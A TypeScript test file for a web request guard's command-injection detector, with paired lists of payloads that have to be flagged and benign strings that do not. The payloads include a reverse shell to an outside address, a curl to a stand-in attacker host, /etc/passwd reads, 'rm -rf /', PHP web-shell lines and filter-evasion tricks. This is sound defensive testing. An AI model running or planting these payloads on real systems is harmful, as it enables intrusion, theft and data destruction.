import fc from 'fast-check';
import { detectCommandInjection } from '../../../../../lambdas/request-guard/threats/command/command-injection';
import { scoreOf } from '../support/score-of';

const command = (text: string, place: 'query' | 'json' = 'query') => scoreOf('command-injection', text, { place });

describe('command injection', () => {
  it.each([
    ['a second command', '127.0.0.1; cat /etc/passwd'],
    ['one after a name', 'report.txt;id'],
    ['one alone', ';id'],
    ['a pipe', '| whoami'],
    ['a conjunction', '8.8.8.8 && uname -a'],
    ['one in the background', '& ping -n 9 127.0.0.1 &'],
    ['a line of its own', '%0Acat%20/etc/passwd'],
    ['one out of quotes', "'; ls -la; '"],
    ['a substitution', '$(sleep 9)'],
    ['one that is glued to a name', 'a=$(id)'],
    ['backticks', '`whoami`'],
    ['a download', ';curl evil.example'],
    ['an interpreter', "; python3 -c 'import os'"],
    ['a connection back', 'bash -i >& /dev/tcp/203.0.113.5/443 0>&1'],
    ['one of Windows', '| dir c:\\'],
    ['its shell', '&& cmd /c ver'],
    ['its accounts', '| net user'],
    ['one with an extension', '" & ping.exe -n 9 127.0.0.1'],
    ['empty quotes in the name', ";c''at /etc/hosts"],
    ['a backslash in it', ';c\\at /etc/hosts'],
    ['an unset parameter in it', ';who$@ami'],
    ['wildcards', ';/???/c?t /etc/hosts'],
    ['a field separator for a space', `;cat$${'{IFS}'}/etc/hosts`],
    ['braces for spaces', ';{cat,/etc/hosts}'],
    ['sudo before it', '; sudo rm -rf /'],
    ['the path of a program', '/usr/bin/id;'],
    ['an output', '; echo 4711'],
    ['a function that is defined in a variable', '() { :;}; /bin/bash -c id'],
    ['a server-side include', '<!--#exec cmd="id"-->'],
    ['PHP', '<?php system($_GET["c"]); ?>'],
    ['PHP in backticks', '<?=`id`?>'],
    ['PHP between quotes', "';system('id');//"],
    ['a probe of PHP', ';phpinfo();'],
    ['Python', "__import__('os').system('id')"],
    ['Node.js', "';require('child_process').exec('id');//"],
    ['what is padded to look like a text', `;cat /etc/passwd #${' padding'.repeat(100)}`],
  ])('is seen in %s', (_, text) => {
    expect(command(text)).toBeGreaterThanOrEqual(50);
  });

  it.each([
    'tea & biscuits',
    'R&D | sales',
    'A; B',
    'cats; dogs; more',
    'fish & more',
    'kill the process; restart',
    'sort by date; find new friends',
    'date; time; host',
    '| id | name |\n|----|------|\n| 1 | cat |',
    'id|name|date',
    'name;id',
    'a=1&id=5&sort=asc',
    'default-src https:; script-src https://cdn.example',
    'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0',
    'Opera/9.80 (MTK; Opera Mini/2.1; U; id) Presto/2.8 Version/11.10',
    'https://shop.example/a?b=c&d=e;f=g#h',
    'Run `ls -la` to list the files',
    'Use `git`, `curl` or `wget`.',
    '$(document).ready(function () { $("#id").show(); });',
    'for (;;) { i++; }',
    'x ? y : z | w & v',
    'The ping; pong table',
    'C:\\Users\\me\\file.txt',
    '/bin/bash',
    '0 5 * * * /usr/local/bin/backup',
    'Smith; John',
    'id\nname\nemail',
    'AT&T; T&C',
    'consent=1&groups=C1:1,C2:0&date=2024&host=',
    'Java; Python | Ruby; Perl',
    'FROM node:20\nRUN apt-get update\nCMD ["node", "index.js"]',
  ])('is not seen in %j', (text) => {
    expect(command(text)).toBeLessThan(50);
    expect(command(text, 'json')).toBeLessThan(50);
  });

  it.each([
    'npm install && npm start',
    'cd app && make install',
    'git commit -m "fix; do not break"',
    'curl https://get.example/install.sh | sh',
    'First update:\n\n```sh\napt-get update; apt-get install -y curl\ncat /etc/os-release | grep NAME\n```\n',
    'for f in *.txt; do\n  cat "$f" | sort -u\n  rm "$f"\ndone',
  ])('is not seen in a command line that is posted as JSON: %j', (text) => {
    expect(command(text, 'json')).toBeLessThan(50);
  });

  it('throws nothing, and scores from 1 to 100, whatever it is given', () => {
    const pieces = fc.constantFrom(
      ';',
      '|',
      '&',
      '`',
      '$(',
      ')',
      "'",
      '"',
      ' ',
      'id',
      'cat',
      '/etc/',
      '{',
      ',',
      '$IFS',
      '\n',
      '\\',
      '<?php ',
    );
    const text = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.array(pieces).map((parts) => parts.join('')),
    );
    fc.assert(
      fc.property(text, (given) => {
        const found = detectCommandInjection(given, { place: 'query', path: 'q', isName: false, text: given });
        if (found !== null) expect(found.score).toEqual(Math.min(100, Math.max(1, found.score)));
      }),
      { numRuns: 300 },
    );
  });
});
